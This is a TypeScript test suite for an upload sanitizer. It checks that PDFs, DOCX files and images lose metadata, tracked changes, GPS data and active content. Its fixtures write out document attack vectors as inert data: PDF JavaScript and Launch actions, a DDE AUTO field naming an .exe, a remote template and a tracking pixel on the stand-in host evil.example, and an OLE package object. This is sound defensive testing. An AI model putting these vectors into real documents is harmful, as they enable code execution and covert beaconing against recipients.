import { inflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib';
import { getMeta } from 'unpdf';
import { describe, expect, it, vi } from 'vitest';
import { pdfOf } from '../../../test/support/pdf.ts';
import { pngOf } from '../../../test/support/picture.ts';
import { zip } from '../../../test/support/zip.ts';
import { openArchive } from './archive.ts';
import { barePicture } from './bare-picture.ts';
import { readDocument } from './document.ts';

// Each file is read in a thread of its own, which takes its time to begin on a busy machine.
vi.setConfig({ testTimeout: 60_000 });

/** Stands wherever a file tells something beside its pages. */
const canary = 'Xanthippe';

const segment = (marker: number, data: Buffer) => {
  const size = Buffer.alloc(2);
  size.writeUInt16BE(data.length + 2);
  return Buffer.concat([Buffer.from([0xff, marker]), size, data]);
};
/** EXIF that says which way is up, and where it was taken. */
const exif = (turned: number) =>
  segment(
    0xe1,
    Buffer.concat([
      Buffer.from('Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0', 'latin1'),
      Buffer.from([turned, 0, 0, 0, 0, 0, 0, 0]),
      Buffer.from(`GPS 52.09N 5.12E ${canary}`),
    ]),
  );
const photo = (turned = 1) => {
  const frame = Buffer.from([8, 0, 48, 0, 64, 3, 1, 17, 0, 2, 17, 1, 3, 17, 1]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    exif(turned),
    segment(0xfe, Buffer.from(canary)),
    segment(0xc0, frame),
    segment(0xda, Buffer.from([3, 1, 0, 2, 17, 3, 17, 0, 63, 0])),
    Buffer.from([0x12, 0xff, 0x00, 0x34]),
    Buffer.from([0xff, 0xd9]),
    Buffer.from(`another picture of ${canary}`),
  ]);
};

/** All that stands in a PDF: its bytes, and what its streams unpack to, as text of one or two bytes a sign. */
function allOf(bytes: Uint8Array): string {
  const text = Buffer.from(bytes).toString('latin1');
  const parts = [text];
  for (const { 1: stream = '' } of text.matchAll(/stream\r?\n([\s\S]*?)\r?\nendstream/g)) {
    try {
      parts.push(inflateSync(Buffer.from(stream, 'latin1')).toString('latin1'));
    } catch {
      // Not packed like that.
    }
  }
  const all = parts.join('\n');
  const hex = Buffer.from([...canary].flatMap((sign) => [0, sign.charCodeAt(0)])).toString('hex');
  return all.toLowerCase().includes(hex) ? `${all} ${canary}` : all.replaceAll('\u0000', '');
}

async function telling(): Promise<Uint8Array> {
  const made = await PDFDocument.load(pdfOf('I mend bridges in Zwolle'));
  made.setAuthor(canary);
  made.setTitle(canary);
  made.setCreator(canary);
  const { context, catalog } = made;
  catalog.set(
    PDFName.of('Metadata'),
    context.register(context.stream(`<x:xmpmeta>${canary}</x:xmpmeta>`, { Type: 'Metadata', Subtype: 'XML' })),
  );
  await made.attach(Buffer.from(`the salary of ${canary}`), 'pay.txt', { mimeType: 'text/plain', description: canary });
  made.addJavaScript('hello', `app.alert('${canary}')`);
  const [page] = made.getPages();
  if (page === undefined) throw new Error('no page');
  page.drawImage(await made.embedJpg(photo()), { x: 10, y: 10, width: 20, height: 20 });
  page.node.set(PDFName.of('PieceInfo'), context.obj({ Illustrator: { Private: PDFString.of(canary) } }));
  page.node.set(PDFName.of('Thumb'), context.register(context.stream(canary, {})));
  const note = (kind: string, more = {}) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: kind,
        Rect: [0, 0, 9, 9],
        T: PDFString.of(canary),
        Contents: PDFHexString.fromText(canary),
        ...more,
      }),
    );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      note('Text'),
      note('Highlight'),
      note('FileAttachment'),
      note('FreeText', { DA: PDFString.of('/F 9 Tf') }),
      note('Link', { A: { S: 'URI', URI: PDFString.of('https://example.org/work') } }),
      note('Link', { A: { S: 'Launch', F: PDFString.of(`${canary}.exe`) } }),
    ]),
  );
  catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of(canary) }));
  const first = await made.save({ useObjectStreams: false });
  // And once more, with an earlier version underneath.
  const later = await PDFDocument.load(first, { forIncrementalUpdate: true });
  later.setSubject(`${canary} once more`);
  return later.save();
}

describe('upload: a PDF tells what stands on its pages and nothing else', () => {
  it('S31 · upload: author, program, dates, earlier versions, remarks, files, scripts, thumbnails and where a photograph was taken are gone', async () => {
    const sent = await telling();
    expect(allOf(sent).split(canary).length).toBeGreaterThan(12);
    const read = await readDocument(sent);
    if ('refused' in read) throw new Error(read.refused);
    const all = allOf(read.bytes);
    expect(all).not.toContain(canary);
    expect(all).not.toMatch(
      /JavaScript|EmbeddedFile|FileAttachment|Launch|PieceInfo|Metadata|pdf-lib|CreationDate|%%EOF[\s\S]*%%EOF/,
    );
    // What is to be read stays, with its links and its picture.
    expect(read).toMatchObject({
      mediaType: 'application/pdf',
      pages: 1,
      text: expect.stringContaining('I mend bridges'),
    });
    expect(all).toContain('https://example.org/work');
    expect(all).toContain('DCTDecode');
    expect(all).toContain('FreeText');
    const { info, metadata } = await getMeta(new Uint8Array(read.bytes));
    expect(Object.keys(info).filter((key) => /Author|Title|Creat|Produc|Mod|Subject|Keywords/.test(key))).toEqual([]);
    expect(metadata ?? {}).toEqual({});
  });

  it('the same file becomes the same bytes, so that it is known again', async () => {
    const sent = await telling();
    const [one, two] = [await readDocument(sent), await readDocument(new Uint8Array(sent))];
    if ('refused' in one || 'refused' in two) throw new Error('refused');
    expect(Buffer.from(one.bytes).equals(Buffer.from(two.bytes))).toBe(true);
  });

  it('one that may not be printed, but opens without a password, is read; one that needs one is refused', async () => {
    const locked = async (passwords: { userPassword: string; ownerPassword: string }) => {
      const made = await PDFDocument.load(pdfOf('I mend bridges'));
      made.setAuthor(canary);
      made.encrypt({ ...passwords, permissions: { printing: false } });
      return made.save();
    };
    const read = await readDocument(await locked({ userPassword: '', ownerPassword: 'mine' }));
    expect('refused' in read ? read : read.text).toContain('I mend bridges');
    if (!('refused' in read)) expect(allOf(read.bytes)).not.toMatch(/Encrypt|Xanthippe/);
    expect(await readDocument(await locked({ userPassword: 'secret', ownerPassword: 'mine' }))).toEqual({
      refused: 'protected',
    });
  });
});

const w =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:o="urn:schemas-microsoft-com:office:office"';
const relation = (id: string, type: string, target: string, outside = false) =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`;
const relations = (...all: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
const by = `w:author="${canary}" w:date="2026-01-02T03:04:05Z"`;
const field = (...pieces: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;

const tellingDocx = () =>
  zip({
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>`,
    '_rels/.rels': relations(
      relation('r1', 'officeDocument', 'word/document.xml'),
      relation('r2', 'metadata/core-properties', 'docProps/core.xml'),
      relation('r3', 'metadata/thumbnail', 'docProps/thumbnail.jpeg'),
    ),
    'docProps/core.xml': `<x>${canary}</x>`,
    'docProps/app.xml': `<Properties><Company>${canary}</Company></Properties>`,
    'docProps/thumbnail.jpeg': photo(),
    'customXml/item1.xml': `<x>${canary}</x>`,
    'word/people.xml': `<x>${canary}</x>`,
    'word/comments.xml': `<x>${canary}</x>`,
    'word/embeddings/oleObject1.bin': canary,
    'word/media/image1.jpeg': photo(6),
    'word/media/image2.png': Buffer.from(pngOf(16, 16, [1, 2, 3], canary)),
    'word/settings.xml': `<w:settings ${w}><w:attachedTemplate r:id="t1"/><w:rsids><w:rsid w:val="00A1"/></w:rsids><w:docVars><w:docVar w:name="x" w:val="${canary}"/></w:docVars><w:zoom w:percent="100"/></w:settings>`,
    'word/_rels/settings.xml.rels': relations(
      relation('t1', 'attachedTemplate', `https://evil.example/${canary}.dotm`, true),
    ),
    'word/_rels/document.xml.rels': relations(
      relation('i1', 'image', 'media/image1.jpeg'),
      relation('i2', 'image', `https://evil.example/pixel.png?${canary}`, true),
      relation('h1', 'hyperlink', 'https://example.org/work', true),
      relation('h2', 'hyperlink', `file:///C:/Users/${canary}/x.docx`, true),
      relation('c1', 'comments', 'comments.xml'),
      relation('o1', 'oleObject', 'embeddings/oleObject1.bin'),
    ),
    'word/document.xml': `<?xml version="1.0"?><w:document ${w}><w:body>
      <w:p w:rsidR="00A1B2"><w:pPr><w:rPr><w:ins w:id="9" ${by}/></w:rPr><w:pPrChange w:id="1" ${by}><w:pPr/></w:pPrChange></w:pPr>
        <w:r><w:t xml:space="preserve">I mend </w:t></w:r>
        <w:del w:id="2" ${by}><w:r><w:delText>paid by ${canary} </w:delText></w:r></w:del>
        <w:ins w:id="3" ${by}><w:r><w:t>bridges</w:t></w:r></w:ins>
        <w:moveFrom w:id="4" ${by}><w:r><w:t>${canary}</w:t></w:r></w:moveFrom>
        <w:commentRangeStart w:id="0"/><w:r><w:t xml:space="preserve"> in Zwolle</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>
        ${field(' PAGE ')}${field(' DDE', `AUTO c:\\\\${canary}.exe `)}${field(` INCLUDEPICTURE "https://evil.example/${canary}" `)}
        <w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\${canary}&quot; "><w:r><w:t>kept</w:t></w:r></w:fldSimple>
        <w:hyperlink r:id="h1"><w:r><w:t>work</w:t></w:r></w:hyperlink><w:hyperlink r:id="h2"><w:r><w:t>file</w:t></w:r></w:hyperlink>
        <w:r><w:drawing><pic:cNvPr id="1" name="C:\\Users\\${canary}\\me.jpg" descr="C:\\Users\\${canary}\\me.jpg"/><a:blip r:embed="i1" r:link="i2"/></w:drawing></w:r>
        <w:r><w:object><o:OLEObject ProgID="Package" r:id="o1"/></w:object></w:r>
      </w:p>
      <w:tbl><w:tr><w:trPr><w:del w:id="5" ${by}/></w:trPr><w:tc><w:p><w:r><w:t>${canary}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>
    </w:body></w:document>`,
  });

describe('upload: a DOCX tells what stands on its pages and nothing else', () => {
  it('author, company, changes that were tracked, remarks, data, objects, and where a photograph was taken are gone', async () => {
    const read = await readDocument(tellingDocx());
    if ('refused' in read) throw new Error(read.refused);
    const files = openArchive(read.bytes);
    if (!(files instanceof Map)) throw new Error('no archive');
    expect([...files.keys()].sort()).toEqual(
      [
        '[Content_Types].xml',
        '_rels/.rels',
        'word/_rels/document.xml.rels',
        'word/_rels/settings.xml.rels',
        'word/document.xml',
        'word/media/image1.jpeg',
        'word/media/image2.png',
        'word/settings.xml',
      ].sort(),
    );
    for (const [name, content] of files) {
      const text = content.toString('latin1');
      expect(text, name).not.toContain(canary);
      expect(text, name).not.toMatch(/GPS|evil\.example|2026-01-02|rsid|w:author|docProps/);
    }
    const body = files.get('word/document.xml')?.toString() ?? '';
    expect(body).toContain('PAGE');
    expect(body).not.toMatch(/DDE|AUTO|INCLUDE|OLEObject|r:link/);
    expect(body).toContain('r:embed="i1"');
    expect(body).toContain('>kept<');
    expect(files.get('word/_rels/document.xml.rels')?.toString()).toContain('https://example.org/work');
    expect(files.get('word/settings.xml')?.toString()).toContain('w:zoom');
    expect(read.text.replace(/\s+/g, ' ')).toMatch(/^I mend bridges in Zwolle.*shown.*work.*file/);
  });

  it.each([
    ['an archive with a name twice', [['word/document.xml', '<other/>']] as [string, string][]],
    ['a document type', [['word/styles.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>']] as [string, string][]],
    ['XML that is not whole', [['word/styles.xml', '<w:styles><w:style>']] as [string, string][]],
  ])('refuses %s', async (_, more) => {
    const base: [string, string][] = [
      ['[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'],
      ['_rels/.rels', relations(relation('r1', 'officeDocument', 'word/document.xml'))],
      ['word/document.xml', `<w:document ${w}><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>`],
    ];
    expect(await readDocument(zip(base))).toMatchObject({ text: 'x' });
    expect(await readDocument(zip([...base, ...more]))).toEqual({ refused: 'damaged' });
  });
});

describe('upload: a picture inside a document is picture only', () => {
  it('a JPEG keeps which way is up and nothing else', () => {
    const bare = barePicture(photo(6));
    expect(bare?.includes(canary)).toBe(false);
    expect(bare?.includes('GPS')).toBe(false);
    expect(bare?.includes('Exif')).toBe(true);
    expect(barePicture(photo(1))?.includes('Exif')).toBe(false);
    expect(barePicture(bare ?? Buffer.alloc(0))).toEqual(bare);
  });

  it('a PNG, a WebP and a JPEG 2000 lose their texts', () => {
    expect(Buffer.from(barePicture(pngOf(16, 16, [1, 2, 3], canary)) ?? [])).toEqual(
      Buffer.from(pngOf(16, 16, [1, 2, 3])),
    );
    const chunk = (type: string, data: string) => {
      const size = Buffer.alloc(4);
      size.writeUInt32LE(data.length);
      return Buffer.concat([Buffer.from(type), size, Buffer.from(data.length % 2 ? `${data}\0` : data, 'latin1')]);
    };
    const body = Buffer.concat([
      chunk('VP8X', '\x0c\0\0\0\0\0\0\0\0\0'),
      chunk('VP8 ', 'drawn'),
      chunk('EXIF', canary),
      chunk('XMP ', canary),
    ]);
    const bare = barePicture(Buffer.concat([Buffer.from('RIFF\0\0\0\0WEBP', 'latin1'), body]));
    expect(bare?.toString('latin1')).toMatch(/drawn/);
    expect(bare?.toString('latin1')).not.toContain(canary);
    const box = (type: string, data: string) => {
      const size = Buffer.alloc(4);
      size.writeUInt32BE(data.length + 8);
      return Buffer.concat([size, Buffer.from(type + data, 'latin1')]);
    };
    const boxes = barePicture(
      Buffer.concat([box('jP  ', '\r\n\x87\n'), box('uuid', canary), box('jp2c', 'drawn'), box('xml ', canary)]),
    );
    expect(boxes?.toString('latin1')).toMatch(/drawn/);
    expect(boxes?.toString('latin1')).not.toContain(canary);
  });
});
